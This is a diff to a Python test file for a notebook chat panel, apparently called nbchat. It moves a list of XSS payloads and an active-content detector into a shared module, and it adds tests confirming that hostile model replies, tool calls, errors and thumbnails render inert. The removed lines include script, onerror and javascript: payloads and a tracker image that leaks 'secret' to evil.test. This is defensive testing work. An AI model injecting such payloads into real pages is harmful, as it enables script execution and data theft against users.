@@ -7,7 +7,6 @@ import subprocess
 import sys
 import threading
 import time
-from html.parser import HTMLParser
 
 import httpx
 import pytest
@@ -21,6 +20,7 @@ from nbchat.notebook.panel import SEND_MARK, ChatPanel, panel
 from nbchat.notebook.widgets import WIDGET_VIEW
 from nbchat.protocol.exceptions import RateLimitError
 from nbchat.render.bundles import error_bundle
+from tests import hostile
 from tests.fakeserver import SECRET, FakeServer, sse_events
 
 pytest.importorskip("ipywidgets")
@@ -486,42 +486,7 @@ def test_sidecar_missing_gives_an_install_hint_and_makes_nothing(monkeypatch):
 
 # -- everything outside is shown inert ----------------------------------------------------------
 
-HOSTILE = [
-    '<img src="https://evil.test/x.png" onerror="window.__nbchatPwned=1">',
-    "<script>window.__nbchatPwned = 1</script>",
-    "[click](javascript:window.__nbchatPwned=1)",
-    "![tracker](https://evil.test/leak?d=secret)",
-    "`x` <iframe src=https://evil.test></iframe> </details><svg onload=alert(1)>",
-]
-
-
-class _ActiveContent(HTMLParser):
-    """Collects what would run or load in a browser."""
-
-    def __init__(self, thumbnails: tuple[str, ...] = ()) -> None:
-        super().__init__()
-        self.thumbnails = {src.lower() for src in thumbnails}
-        self.found: list[str] = []
-
-    def handle_starttag(self, tag, attrs):
-        if tag in {"script", "iframe", "object", "embed", "base", "meta", "form", "svg", "link"}:
-            self.found.append(tag)
-        for name, value in attrs:
-            value = (value or "").strip().lower()
-            if name.startswith("on"):
-                self.found.append(f"{tag} {name}")
-            ours = tag == "img" and value in self.thumbnails
-            scheme = value.startswith(("javascript:", "vbscript:", "data:"))
-            if name in {"href", "src", "srcset", "action"} and scheme and not ours:
-                self.found.append(f"{tag} {name}={value[:30]}")
-            if tag == "img" and name == "src" and value not in self.thumbnails:
-                self.found.append(f"img src={value[:30]}")
-
-
-def active_content(markup: str, thumbnails: tuple[str, ...] = ()) -> list[str]:
-    parser = _ActiveContent(thumbnails)
-    parser.feed(markup)
-    return parser.found
+PAYLOADS = list(hostile.PAYLOADS.values())
 
 
 def panel_html(p: ChatPanel) -> str:
@@ -534,59 +499,64 @@ def panel_html(p: ChatPanel) -> str:
     return "\n".join(parts)
 
 
-def test_hostile_replies_refusals_and_tool_calls_are_inert_in_the_panel():
+def test_hostile_replies_model_names_and_refusals_are_inert_in_the_panel():
     p, server = make_panel()
-    for payload in HOSTILE:
+    for payload in PAYLOADS:
         server.reply(payload, model=payload)
         p.send(payload)
         assert p.wait(5)
-    server.reply(None, refusal=HOSTILE[0])
+        hostile.assert_inert(panel_html(p), payload)
+    server.reply(None, refusal=PAYLOADS[0])
     p.send("refuse")
     assert p.wait(5)
-    server.reply(
-        None, tool_calls=[{"id": HOSTILE[1], "name": "get<b>", "arguments": {"q": HOSTILE[0]}}]
-    )
-    p.send("call a tool")
+    assert len(p.conversation.outputs) == 2 * (len(PAYLOADS) + 1)
+    hostile.assert_inert(panel_html(p), "refusal")
+
+
+def test_hostile_tool_calls_are_inert_in_the_panel():
+    p, server = make_panel()
+    calls = [
+        {"id": hostile.PAYLOADS["tool call id"], "name": name, "arguments": {"q": payload}}
+        for name, payload in hostile.PAYLOADS.items()
+    ]
+    server.reply(None, tool_calls=calls)
+    p.send("call them all")
     assert p.wait(5)
     markup = panel_html(p)
-    assert "window.__nbchatPwned" in markup  # the payloads are there, as text
-    assert active_content(markup) == []
+    assert "onerror=alert(1)" in markup  # the payloads are there, as text
+    hostile.assert_inert(markup, "tool calls")
 
 
 def test_history_from_cells_is_shown_with_the_history_renderer_and_inert():
-    p, _ = make_panel()
-    p.chat.add({"role": "user", "content": HOSTILE[1]})
-    p.chat.add(
-        {
-            "role": "assistant",
-            "content": HOSTILE[0],
-            "tool_calls": [
-                {
-                    "id": HOSTILE[2],
-                    "type": "function",
-                    "function": {"name": HOSTILE[3], "arguments": HOSTILE[4]},
-                }
-            ],
-        }
-    )
-    p.chat.add({"role": "tool", "tool_call_id": HOSTILE[1], "content": HOSTILE[0]})
-    p.refresh()
-    (history,) = [o["data"] for o in p.conversation.outputs]
-    from nbchat.render.bundles import history_bundle
+    from nbchat.render.bundles import message_bundle
 
-    assert history["text/plain"] == history_bundle(p.chat)["text/plain"]
-    assert active_content(panel_html(p)) == []
+    p, _ = make_panel()
+    for payload in PAYLOADS:
+        p.chat.add({"role": "user", "content": payload})
+        call = {
+            "id": payload,
+            "type": "function",
+            "function": {"name": payload, "arguments": payload},
+        }
+        p.chat.add({"role": "assistant", "content": payload, "tool_calls": [call]})
+        p.chat.add({"role": "tool", "tool_call_id": payload, "content": payload})
+    p.chat.add({"role": "assistant", "content": PAYLOADS[1]}, interrupted=True)
+    p.refresh()
+    expected = [message_bundle(m) for m in p.chat.messages[:-1]]
+    expected.append(message_bundle(p.chat.messages[-1], interrupted=True))
+    assert [o["data"] for o in p.conversation.outputs] == expected
+    hostile.assert_inert(panel_html(p), "history")
 
 
 def test_hostile_error_messages_and_upload_names_are_inert():
     p, server = make_panel()
-    server.error(500, HOSTILE[0], type=HOSTILE[1], code=HOSTILE[4])
-    p.send("hello")
-    assert p.wait(5)
-    p._on_upload({"new": ({"name": HOSTILE[0], "content": memoryview(b"not an image")},)})
-    markup = panel_html(p)
-    assert "onerror" in markup
-    assert active_content(markup) == []
+    for payload in PAYLOADS:
+        server.error(500, payload, type=payload, code=payload, param=payload)
+        p.send("hello")
+        assert p.wait(5)
+        p._on_upload({"new": ({"name": payload, "content": memoryview(b"not an image")},)})
+        hostile.assert_inert(panel_html(p), payload)
+    assert "InternalServerError" in shown(p)
 
 
 def test_only_our_own_thumbnails_are_shown_as_images():
@@ -595,11 +565,16 @@ def test_only_our_own_thumbnails_are_shown_as_images():
     p, server = make_panel()
     server.reply("ok")
     part = p.attach(Image.new("RGB", (10, 10), "red"))
-    assert active_content(p.thumbnails.value, (part.thumbnail,)) == []
     assert "<img" in p.thumbnails.value
+    hostile.assert_inert(p.thumbnails.value, "thumbnail")
     p.attachments = [dataclasses.replace(part, thumbnail="https://evil.test/x.png")]
     p._show_thumbnails()
     assert "<img" not in p.thumbnails.value and "🖼" in p.thumbnails.value
+    p.attachments = [part]
+    p.send("What is it?")
+    assert p.wait(5)
+    assert "<img" in shown(p)
+    hostile.assert_inert(panel_html(p), "sent thumbnail")
 
 
 # -- the worker never dies --------------------------------------------------------------------
@@ -774,7 +749,7 @@ def test_an_html_export_shows_the_conversation_inert_where_the_widget_was(shell)
 
     p = panel("exported")
     try:
-        shell.server.reply(HOSTILE[0] + " The visible answer.")
+        shell.server.reply(hostile.PAYLOADS["img onerror"] + " The visible answer.")
         p.send("Show me")
         assert p.wait(5)
         from IPython.display import display
@@ -796,4 +771,4 @@ def test_an_html_export_shows_the_conversation_inert_where_the_widget_was(shell)
     assert "ChatPanel(session=&#39;exported&#39;" in body or "ChatPanel(session='exported'" in body
     # Past nbconvert's own scripts, nothing of the reply is active.
     cells = body.split('class="jp-Cell ', 1)[1]
-    assert active_content(cells.split("</main>", 1)[0]) == []
+    hostile.assert_inert(cells.split("</main>", 1)[0], "HTML export")
